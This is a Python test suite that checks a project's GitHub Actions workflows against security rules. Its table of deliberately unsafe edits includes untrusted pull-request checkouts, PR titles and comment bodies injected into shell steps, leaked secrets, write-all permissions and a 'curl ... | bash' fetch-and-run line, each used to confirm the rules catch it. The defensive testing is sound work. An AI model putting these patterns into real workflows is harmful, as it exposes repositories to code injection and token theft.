"""The shipped workflows keep the rules of rules.py, and every rule finds what it is there to find."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.workflows.definition import parse_definition
from tests.workflows.rules import BOT, OWN_EVENTS, RULES, find_violations
from tests.workflows.shipped import ACTION, AMENDMENTS, CI, DAILY, WORKFLOWS, read_calling_workflow

CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
BRANCH = "ref: ${{ github.event.repository.default_branch }}"

# For each rule what would be dangerous: in which file, what stands there, what stands there instead.
DANGERS = {
    "triggers": [
        (AMENDMENTS, "  workflow_dispatch:", "  workflow_run:\n    workflows: [CI]"),
        (AMENDMENTS, "  workflow_dispatch:", "  pull_request:"),
        (CI, "contents: read", "checks: write"),
    ],
    "permissions": [
        (AMENDMENTS, "permissions: {}\n", "permissions:\n  contents: read\n"),
        (AMENDMENTS, "permissions: {}\n", ""),
        (AMENDMENTS, "contents: read", "contents: write"),
        (AMENDMENTS, "contents: read", "id-token: write"),
        (AMENDMENTS, OWN_EVENTS, "github.event_name != 'issue_comment'"),
        (AMENDMENTS, f"    if: {OWN_EVENTS}\n", ""),
        (DAILY, "checks: write", "deployments: write"),
        (CI, "    permissions:\n      contents: read # fetch the program\n", ""),
        (CI, "permissions:\n      contents: read # fetch the program\n", "permissions: write-all\n"),
    ],
    "pins": [
        (ACTION, CHECKOUT, "actions/checkout@v7"),
        (ACTION, CHECKOUT, CHECKOUT.partition(" ")[0]),
        (ACTION, CHECKOUT, CHECKOUT.replace("actions/", "somebody/")),
        (ACTION, CHECKOUT, "docker://alpine:3"),
        (AMENDMENTS, "uses: ./ ", "uses: ./proposed/.github/actions/bot "),
        (DAILY, "uses: ./", "uses: somebody/workflows/"),
        (DAILY, "amendments.yml", "ci.yml"),
    ],
    "checkouts": [
        (ACTION, "persist-credentials: false", "persist-credentials: true"),
        (ACTION, "        persist-credentials: false\n", ""),
        (ACTION, f"        {BRANCH}\n", ""),
        (AMENDMENTS, f"          {BRANCH}\n", ""),
        (ACTION, BRANCH, "ref: ${{ github.event.pull_request.head.sha }}"),
        (ACTION, BRANCH, "ref: refs/pull/${{ github.event.number }}/merge"),
        (ACTION, BRANCH, "ref: ${{ github.sha }}"),
        (ACTION, "fetch-depth: 0", "repository: ${{ github.event.pull_request.head.repo.full_name }}"),
        (ACTION, "fetch-depth: 0", "allow-unsafe-pr-checkout: true"),
        (ACTION, "fetch-depth: 0", "submodules: true"),
        (CI, "persist-credentials: false", "persist-credentials: false\n          ref: somewhere"),
    ],
    "reads": [
        (ACTION, "${{ inputs.changelog }}", "${{ github.event.pull_request.title }}"),
        (ACTION, "${{ inputs.changelog }}", "${{ github.event.comment.body }}"),
        (ACTION, "${{ inputs.changelog }}", "${{ github['event']['pull_request']['body'] }}"),
        (ACTION, "${{ inputs.changelog }}", "${{ toJSON(github) }}"),
        (ACTION, "${{ inputs.changelog }}", "${{ secrets.PASSWORD }}"),
        (AMENDMENTS, "github.event_name == 'pull_request_target'", "github.actor == 'somebody'"),
        (AMENDMENTS, "github.event_name == 'pull_request_target'", "contains(github.event.comment.body, '/run')"),
    ],
    "scripts": [
        (ACTION, BOT, BOT + " ${{ inputs.changelog }}"),
        (ACTION, BOT, BOT + " ${{ github.event.pull_request.title }}"),
        (ACTION, BOT, BOT + ' >> "$GITHUB_ENV"'),
        (ACTION, BOT, BOT + ' >> "${GITHUB_OUTPUT}"'),
        (ACTION, BOT, BOT + ' >> "$GITHUB_PATH"'),
        (ACTION, BOT, BOT + ' | tee "$GITHUB_STATE"'),
        (ACTION, BOT, BOT + ' && echo "::set-output name=title::anything"'),
        (ACTION, BOT, BOT + ' --base "$GITHUB_BASE_REF"'),
        (ACTION, BOT, BOT + ' < "$GITHUB_EVENT_PATH"'),
    ],
    "proposed": [
        (ACTION, BRANCH, "ref: ${{ github.event.pull_request.head.sha }}"),
        (ACTION, BRANCH, "ref: ${{ github.event.pull_request.merge_commit_sha }}"),
        (ACTION, BRANCH, "ref: ${{ github.head_ref }}"),
        (ACTION, BOT, BOT + " --branch $GITHUB_HEAD_REF"),
        (ACTION, BOT, BOT + " && gh pr checkout 7"),
        (ACTION, BOT, BOT + " && git fetch origin refs/pull/7/merge"),
        (ACTION, BOT, BOT + " && curl --silent https://example.org | bash"),
    ],
    "token": [
        (ACTION, "GITHUB_TOKEN: ${{", "OTHER_TOKEN: ${{"),
        (ACTION, BOT, "python -m pip install anything"),
        (ACTION, BOT, BOT + " && python -m pip install anything"),
        (ACTION, BOT, BOT + "\n        python -m pip install anything"),
        (ACTION, "python-version: ${{ inputs.python-version }}", "token: ${{ inputs.token }}"),
        (ACTION, '"$GITHUB_ACTION_PATH"', '"$GITHUB_ACTION_PATH"\n      env: {GITHUB_TOKEN: "${{ github.token }}"}'),
        (AMENDMENTS, "    steps:", "    env: {GITHUB_TOKEN: '${{ github.token }}'}\n    steps:"),
    ],
    "concurrency": [
        (AMENDMENTS, "      group: amendments\n", "      group: amendments-${{ github.event.number }}\n"),
        (AMENDMENTS, "cancel-in-progress: false", "cancel-in-progress: true"),
        (AMENDMENTS, "    concurrency:\n      group: amendments\n      cancel-in-progress: false\n", ""),
        (AMENDMENTS, "permissions: {}\n", "permissions: {}\nconcurrency: amendments\n"),
        (AMENDMENTS, "\njobs:\n", "\njobs:\n  other: {concurrency: {group: other, cancel-in-progress: 'false'}}\n"),
    ],
    "timeouts": [
        (AMENDMENTS, "    timeout-minutes: 45\n", ""),
        (AMENDMENTS, "timeout-minutes: 45", "timeout-minutes: 360"),
        (CI, "    timeout-minutes: 20\n", ""),
    ],
}


@pytest.mark.parametrize("file", [*WORKFLOWS, ACTION], ids=lambda file: file.name)
def test_shipped_file_keeps_every_rule(file: Path) -> None:
    assert find_violations(file.read_text(encoding="utf-8")) == []


def test_every_workflow_is_looked_at() -> None:
    assert {file.name for file in (AMENDMENTS.parent).iterdir()} == {file.name for file in WORKFLOWS}
    assert {AMENDMENTS, CI, DAILY} <= set(WORKFLOWS)


def test_every_rule_has_dangers_that_it_must_find() -> None:
    assert list(DANGERS) == list(RULES)


@pytest.mark.parametrize(
    ("rule", "file", "safe", "dangerous"),
    [(rule, *danger) for rule, dangers in DANGERS.items() for danger in dangers],
)
def test_danger_is_found_by_its_rule(rule: str, file: Path, safe: str, dangerous: str) -> None:
    text = file.read_text(encoding="utf-8")
    assert safe in text
    assert rule in {name for name, _ in find_violations(text.replace(safe, dangerous, 1))}


def test_daily_run_is_a_workflow_of_its_own() -> None:
    """GitHub stops a workflow with a schedule after 60 quiet days, with all of its other triggers."""
    triggers = {file: parse_definition(file.read_text(encoding="utf-8")).triggers for file in WORKFLOWS}
    assert [file for file in WORKFLOWS if "schedule" in triggers[file]] == [DAILY]
    assert triggers[DAILY] == {"schedule"}


def test_daily_run_gives_what_the_called_workflow_asks_for() -> None:
    (given,) = parse_definition(DAILY.read_text(encoding="utf-8")).jobs.values()
    asked = parse_definition(AMENDMENTS.read_text(encoding="utf-8")).jobs["record"]
    assert asked["permissions"] == given["permissions"]


def test_what_starts_one_job_of_the_bot_does_not_start_the_other() -> None:
    jobs = parse_definition(AMENDMENTS.read_text(encoding="utf-8")).jobs
    assert jobs.keys() == {"reconcile", "record"}
    assert "pull_request_target" not in jobs["record"]["if"]
    assert not {"push", "schedule", "workflow_dispatch"} & set(re.findall(r"\w+", jobs["reconcile"]["if"]))
    same = ("timeout-minutes", "concurrency", "steps", "runs-on")
    assert [jobs["reconcile"][key] for key in same] == [jobs["record"][key] for key in same]


def test_one_action_has_one_commit_in_all_files() -> None:
    used = {
        line.partition("uses: ")[2]
        for file in [*WORKFLOWS, ACTION]
        for line in file.read_text(encoding="utf-8").splitlines()
        if "uses: actions/" in line
    }
    assert len(used) == len({line.partition("@")[0] for line in used})


def test_workflow_shown_to_callers_is_the_shipped_one_with_one_step() -> None:
    shown = parse_definition(read_calling_workflow()).document
    shipped = parse_definition(AMENDMENTS.read_text(encoding="utf-8")).document
    for name in shipped["jobs"]:
        assert shown["jobs"][name].pop("steps") == [{"uses": "OWNER/REPOSITORY@COMMIT"}]
        del shipped["jobs"][name]["steps"]
    assert shown == shipped
